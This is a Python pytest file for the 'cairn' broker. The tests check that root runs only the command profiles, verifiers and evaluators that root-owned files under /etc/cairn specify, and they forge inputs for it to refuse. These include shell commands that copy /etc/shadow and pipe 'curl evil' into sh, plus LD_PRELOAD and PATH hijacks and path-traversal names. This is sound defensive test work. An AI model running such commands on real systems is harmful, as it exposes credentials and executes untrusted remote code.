"""Root runs only what /etc/cairn says (ARCHITECTURE §7): a command profile, verifier or
evaluator frozen in a description is re-read by root from its file by name and hash, and
the agent worker runs only the profile root froze for it. Real files under a test root;
the description is what the ``cairn`` user could have written."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from cairn import paths
from cairn.broker import hostfiles
from cairn.config import Problems
from cairn.errors import BrokerRefused, CairnError
from cairn.evaluators import EvaluatorConfig, frozen_evaluators
from cairn.hostconfig import check_profile, profile_file
from cairn.protocol.launch import PROFILE_SHA256_ENV, ProfileSpec
from cairn.verifiers import matching_verifiers

VERIFIER = 'argv = ["/usr/bin/make", "check"]\ntimeout_sec = 60\n[match]\nprojects = ["/"]\n'
EVALUATOR = 'argv = ["/usr/bin/bench"]\ntimeout_sec = 30\nnetwork = false\n'
PROFILE = 'kind = "command"\nargv = ["/usr/bin/agent", "--task"]\n'


@pytest.fixture(autouse=True)
def etc(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("CAIRN_ROOT", str(tmp_path))
    for name, text in (("verifiers.d/check.toml", VERIFIER),
                       ("evaluators.d/bench.toml", EVALUATOR),
                       ("profiles.d/tool.toml", PROFILE)):
        file = paths.config_dir() / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
        os.chmod(file, 0o644)
    return paths.config_dir()


def frozen_profile() -> ProfileSpec:
    problems = Problems()
    file = profile_file("tool")
    data = problems.toml(file)
    assert data is not None
    checked = check_profile(problems, file, data, "tool")
    assert checked is not None
    return checked.model_copy(update={"config_sha256": problems.read_sha256[file]})


def test_what_a_launch_froze_is_what_root_reads() -> None:
    problems = Problems()
    (verifier,) = matching_verifiers("/home/a/p", "builtin:implement", problems)
    (evaluator,) = frozen_evaluators({"bench": None}, problems)
    problems.check()
    hostfiles.check_verifier(verifier)
    hostfiles.check_evaluator(evaluator)
    hostfiles.check_profile(frozen_profile())


def test_argv_the_file_does_not_say_is_refused() -> None:
    problems = Problems()
    (verifier,) = matching_verifiers("/home/a/p", "builtin:implement", problems)
    (evaluator,) = frozen_evaluators({"bench": None}, problems)
    evil = ["/bin/sh", "-c", "cp /etc/shadow /tmp"]
    with pytest.raises(BrokerRefused, match="verifier check in the run's description is not "
                       "what /etc/cairn says: argv differ"):
        hostfiles.check_verifier(verifier.model_copy(update={"argv": evil}))
    with pytest.raises(BrokerRefused, match="evaluator bench .* environment differ"):
        hostfiles.check_evaluator(evaluator.model_copy(update={"environment": {"LD_PRELOAD":
                                                                               "/tmp/x.so"}}))
    with pytest.raises(BrokerRefused, match="command profile tool .* argv differ"):
        hostfiles.check_profile(frozen_profile().model_copy(update={"argv": evil}))
    with pytest.raises(BrokerRefused, match="command profile tool .* env differ"):
        hostfiles.check_profile(frozen_profile().model_copy(
            update={"env": {"LD_PRELOAD": "/tmp/x.so"}}))


def test_a_profiles_env_is_what_its_file_says(etc: Path) -> None:
    (etc / "profiles.d/tool.toml").write_text(
        'kind = "command"\nprovider = "fake"\nargv = ["/usr/bin/agent"]\n'
        '[env]\nTOOL_MODEL = "{model}"\n')
    profile = frozen_profile()
    assert profile.env == {"TOOL_MODEL": "{model}"}
    assert hostfiles.check_profile(profile) is None  # and no files to give the agent
    for forged in ({}, {"TOOL_MODEL": "{model}", "PATH": "/tmp/evil"},
                   {"TOOL_MODEL": "other"}):
        with pytest.raises(BrokerRefused, match="env differ"):
            hostfiles.check_profile(profile.model_copy(update={"env": forged}))


@pytest.mark.parametrize("name", ["../../tool", "tool/x", "Tool", ""])
def test_a_profile_name_that_is_no_name_is_refused(name: str) -> None:
    with pytest.raises(BrokerRefused, match="is not a profile name"):
        hostfiles.check_profile(frozen_profile().model_copy(update={"name": name}))


def test_a_profiles_files_are_given_only_from_a_directory_only_root_writes(
    etc: Path,
) -> None:
    profile = frozen_profile()  # what a launch froze; the directory changes after it
    files = etc / "profiles.d/tool.d"
    files.mkdir()
    os.chmod(files, 0o755)
    assert hostfiles.check_profile(profile) == files
    os.chmod(files, 0o775)
    with pytest.raises(BrokerRefused, match="tool.d is not a directory that only root can "
                       "write"):
        hostfiles.check_profile(profile)
    os.chmod(files, 0o755)
    os.chown(files, 1000, 1000)  # another user's directory
    with pytest.raises(BrokerRefused, match="only root can write"):
        hostfiles.check_profile(profile)
    files.rmdir()
    elsewhere = etc / "elsewhere.d"
    elsewhere.mkdir()
    files.symlink_to(elsewhere)
    with pytest.raises(BrokerRefused, match="only root can write"):
        hostfiles.check_profile(profile)
    files.unlink()
    files.write_text("not a directory")
    with pytest.raises(BrokerRefused, match="only root can write"):
        hostfiles.check_profile(profile)


def test_a_file_changed_since_the_launch_is_not_run(etc: Path) -> None:
    problems = Problems()
    (verifier,) = matching_verifiers("/home/a/p", "builtin:implement", problems)
    (etc / "verifiers.d/check.toml").write_text(VERIFIER.replace("check", "install"))
    with pytest.raises(BrokerRefused, match="changed since the run was launched"):
        hostfiles.check_verifier(verifier)


@pytest.mark.parametrize(
    ("planted", "refusal"),
    [
        ("symlink", "tool.toml cannot be read: Too many levels of symbolic links"),
        ("group-writable", "tool.toml is not a regular file that only root can write"),
        ("fifo", "tool.toml is not a regular file that only root can write"),
        ("missing", "tool.toml cannot be read: No such file or directory"),
        ("big", f"tool.toml is larger than {hostfiles.CONFIG_LIMIT} bytes"),
    ],
)
def test_only_a_regular_file_only_root_writes_is_read(
    etc: Path, planted: str, refusal: str
) -> None:
    profile = frozen_profile()
    file = etc / "profiles.d/tool.toml"
    elsewhere = etc / "elsewhere.toml"
    elsewhere.write_text(PROFILE)
    file.unlink()
    if planted == "symlink":
        file.symlink_to(elsewhere)
    elif planted == "group-writable":
        file.write_text(PROFILE)
        os.chmod(file, 0o664)
    elif planted == "fifo":
        os.mkfifo(file)
    elif planted == "big":
        file.write_text(PROFILE + "#" * (hostfiles.CONFIG_LIMIT + 1))
    with pytest.raises(BrokerRefused, match=refusal):
        hostfiles.check_profile(profile)


def test_a_file_with_the_frozen_hash_must_still_be_toml(etc: Path) -> None:
    """A launch froze what a newer parser took; root's own parser has the last word."""
    raw = b'kind = "command"\nargv = ['
    (etc / "profiles.d/tool.toml").write_bytes(raw)
    profile = ProfileSpec(name="tool", kind="command", argv=["/usr/bin/agent"],
                          config_sha256="sha256:" + hashlib.sha256(raw).hexdigest())
    with pytest.raises(BrokerRefused, match="tool.toml is not a valid TOML file: .+"):
        hostfiles.check_profile(profile)


def test_a_command_profile_frozen_without_its_file_is_refused() -> None:
    bare = ProfileSpec(name="tool", kind="command", argv=["/usr/bin/agent"])
    with pytest.raises(BrokerRefused, match="frozen without its file"):
        hostfiles.check_profile(bare)
    hostfiles.check_profile(ProfileSpec(name="s", kind="scripted"))  # runs no host command


def test_root_knows_an_evaluator_files_defaults() -> None:
    defaults = {k: EvaluatorConfig.model_fields[k].default for k in hostfiles.EVALUATOR_DEFAULTS}
    assert defaults == hostfiles.EVALUATOR_DEFAULTS


def test_the_worker_runs_only_the_profile_root_froze_for_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from cairn.worker.__main__ import check_profile as worker_check

    frozen = frozen_profile()
    monkeypatch.setenv(PROFILE_SHA256_ENV, frozen.sha256())
    worker_check(frozen)
    swapped = frozen.model_copy(update={"argv": ["/bin/sh", "-c", "curl evil | sh"]})
    with pytest.raises(CairnError, match="not the one root froze for this agent"):
        worker_check(swapped)
    monkeypatch.delenv(PROFILE_SHA256_ENV)
    with pytest.raises(CairnError, match="not the one root froze"):
        worker_check(frozen)


def test_an_evaluators_network_is_what_its_file_says(etc: Path) -> None:
    """network = "allowlist" in the file freezes its domains (lower-cased) and root
    re-reads them; a description (the cairn user's) that grants an evaluator domains its
    file does not, or other ones, is refused before anything runs."""
    (etc / "evaluators.d/net.toml").write_text(
        'argv = ["/usr/bin/bench"]\ntimeout_sec = 30\nnetwork = "allowlist"\n'
        'allowlist = ["PyPI.org", "*.example.com", "pypi.org:8443"]\n')
    problems = Problems()
    bench, net = frozen_evaluators({"bench": None, "net": None}, problems)
    problems.check()
    assert bench.allowlist is None
    assert net.allowlist == ["pypi.org", "*.example.com", "pypi.org:8443"]
    hostfiles.check_evaluator(bench)
    hostfiles.check_evaluator(net)
    with pytest.raises(BrokerRefused, match="evaluator bench .* allowlist differ"):
        hostfiles.check_evaluator(bench.model_copy(update={"allowlist": ["evil.test"]}))
    with pytest.raises(BrokerRefused, match="evaluator net .* allowlist differ"):
        hostfiles.check_evaluator(net.model_copy(update={"allowlist": ["evil.test"]}))


@pytest.mark.parametrize(("text", "message"), [
    ('network = "allowlist"\n', "takes a non-empty allowlist"),
    ('network = false\nallowlist = ["pypi.org"]\n', "takes a non-empty allowlist, and only it"),
    ('network = "allowlist"\nallowlist = ["http://pypi.org/"]\n', "is not a domain"),
    ('network = "host"\n', "network"),
])
def test_an_evaluator_file_with_a_bad_network_is_refused_saying_why(
    etc: Path, text: str, message: str
) -> None:
    (etc / "evaluators.d/net.toml").write_text(
        'argv = ["/usr/bin/bench"]\ntimeout_sec = 30\n' + text)
    problems = Problems()
    frozen_evaluators({"net": None}, problems)
    with pytest.raises(CairnError) as caught:
        problems.check()
    assert message in str(caught.value) + (caught.value.hint or "")
